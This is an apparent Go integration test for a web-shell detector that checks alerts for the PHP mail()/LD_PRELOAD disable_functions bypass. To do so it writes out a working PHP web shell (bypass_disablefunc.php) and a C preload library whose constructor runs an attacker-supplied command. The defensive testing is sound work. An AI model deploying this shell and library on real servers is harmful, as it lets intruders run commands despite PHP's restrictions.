//go:build linux

package tests

import (
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"webshellbeat/detection"
	"webshellbeat/internal/testfiles"
)

// The disable_functions bypass of Chankro and AntSword's LD_PRELOAD plugin,
// on each server: a web shell that may not call system() sets LD_PRELOAD
// to a library it dropped and calls mail(). PHP starts its sendmail_path
// through sh -c, the shell loads the library, and the library's
// constructor runs the intruder's command. The sendmail shell itself is
// what every PHP site starts for its contact form, and the PHP mail()
// filter rule leaves it out; the test checks that this does not hide the
// command it carried: the command's shell must raise an alert of the
// mail() bypass rule, with the web server in its ancestry and its request
// linked, and the request must list it, while the sendmail shell raises
// none. Before, the alert carried no request on either server.
func TestLiveMailBypass(t *testing.T) {
	fpm := liveReady(t)
	if _, err := exec.LookPath("gcc"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("gcc not found: the test builds the preloaded library")
		}
		t.Skip("gcc not found")
	}
	nonce := fmt.Sprintf("wsbmail%d", time.Now().UnixNano())
	lib := buildPreload(t, nonce)
	var attacks []liveAttack
	outs := map[string]string{}
	for _, s := range liveSites {
		out := fmt.Sprintf("/tmp/%s-%s.out", nonce, s.server)
		t.Cleanup(func() { os.Remove(out) })
		outs[s.server] = out
		// yangyangwithgnu's bypass_disablefunc.php, the one AntSword's
		// plugin and most write-ups use: the command, its output file and
		// the library come in the query.
		path := plantShell(t, s, nonce, `<?php
putenv("EVIL_CMDLINE=" . $_GET["cmd"] . " > " . $_GET["outpath"] . " 2>&1");
putenv("LD_PRELOAD=" . $_GET["sopath"]);
mail("", "", "", "");
`)
		q := url.Values{"cmd": {"id"}, "outpath": {out}, "sopath": {lib}}
		attacks = append(attacks, liveAttack{s, fmt.Sprintf("http://127.0.0.1:%d%s?%s", s.port, path, q.Encode()), "id > " + out + " 2>&1"})
	}
	startServers(t, fpm)
	dir := t.TempDir()
	startLiveBeat(t, dir, liveSitesInputs()+detectAll)

	for _, a := range attacks {
		curl(t, a.url)
		if b, _ := os.ReadFile(outs[a.site.server]); !strings.Contains(string(b), "uid=") {
			t.Fatalf("%s: the preloaded library did not run its command (the bypass failed, not the detection): %q", a.site.server, b)
		}
	}
	docs := waitLinked(t, dir, attacks)
	for _, a := range unlinked(docs, attacks) {
		t.Errorf("%s: no alert for the command run through mail() that carries its request %s", a.site.server, a.url)
	}
	const bypassRule = "fb789679-bac3-4275-82bb-b1ef2301131e"
	for _, a := range attacks {
		if !slices.ContainsFunc(docs, func(d map[string]any) bool {
			return isShellAlert(d, a.cmd, a.site.parent, time.Time{}) && slices.Contains(detection.LookupStrings(d, "webshell.rule_ids"), bypassRule)
		}) {
			t.Errorf("%s: the mail() bypass rule did not fire on the command", a.site.server)
		}
		if !slices.ContainsFunc(docs, func(d map[string]any) bool {
			return strings.HasSuffix(a.url, detection.LookupString(d, "url.original")) &&
				slices.Contains(detection.LookupStrings(d, "webshell.processes.command_line"), "sh -c "+a.cmd)
		}) {
			t.Errorf("%s: the request's document never lists the command it ran (webshell.processes)", a.site.server)
		}
	}
	sendmail := 0
	for _, d := range docs {
		cl := detection.LookupString(d, "process.command_line")
		// The MTA under the sendmail shell (nullmailer's sendmail, or the
		// nullmailer-inject it execs, where nullmailer is installed) is no
		// bypass.
		if slices.Contains(detection.LookupStrings(d, "webshell.rule_ids"), bypassRule) && !strings.Contains(cl, nonce) {
			t.Errorf("the mail() bypass rule fired on %q (parent %q)", cl, detection.LookupString(d, "process.parent.command_line"))
		}
		if !strings.HasPrefix(cl, "sh -c /usr/sbin/sendmail -t -i") {
			continue
		}
		sendmail++
		if detection.LookupString(d, "event.kind") == "alert" {
			t.Errorf("the sendmail shell of mail() raised an alert: rules %v", detection.LookupStrings(d, "webshell.rule_ids"))
		}
	}
	if sendmail < len(liveSites) {
		t.Errorf("%d sendmail shells in the output, want one per server (%d): is mail() starting sendmail_path?", sendmail, len(liveSites))
	}
	if t.Failed() {
		for _, d := range docs {
			cl := detection.LookupString(d, "process.command_line")
			if strings.Contains(cl, nonce) || strings.Contains(cl, "sendmail") || cl == "id" || strings.Contains(detection.LookupString(d, "url.original"), nonce) {
				t.Logf("%s %s %q%s pid %v ancestry %v %v rules %v request %q evidence %v processes %v update_of %q", detection.LookupString(d, "@timestamp"),
					detection.LookupString(d, "event.kind"), cl, detection.LookupString(d, "url.original"), lookup(d, "process.pid"), ancestry(d),
					lookup(d, "webshell.ancestry.pid"), detection.LookupStrings(d, "webshell.rule_ids"), detection.LookupString(d, "webshell.request.url.original"),
					detection.LookupStrings(d, "webshell.request.evidence"), detection.LookupStrings(d, "webshell.processes.command_line"), detection.LookupString(d, "webshell.update_of"))
			}
		}
	}
}

// buildPreload compiles the library a bypass drops: its constructor runs
// $EVIL_CMDLINE once, with LD_PRELOAD taken out so that the command's own
// programs do not load it again. It goes in /tmp, where the web servers'
// account can read it (a test's temporary folder is private to root).
func buildPreload(t *testing.T, nonce string) string {
	t.Helper()
	src := filepath.Join(t.TempDir(), "preload.c")
	code := `#include <stdlib.h>
__attribute__((constructor)) static void run(void) {
	const char *cmd = getenv("EVIL_CMDLINE");
	if (cmd == NULL) return;
	unsetenv("LD_PRELOAD");
	system(cmd);
}
`
	testfiles.Write(t, src, code)
	lib := "/tmp/" + nonce + ".so"
	if out, err := exec.Command("gcc", "-shared", "-fPIC", "-o", lib, src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, out)
	}
	t.Cleanup(func() { os.Remove(lib) })
	if err := os.Chmod(lib, 0o755); err != nil {
		t.Fatal(err)
	}
	return lib
}
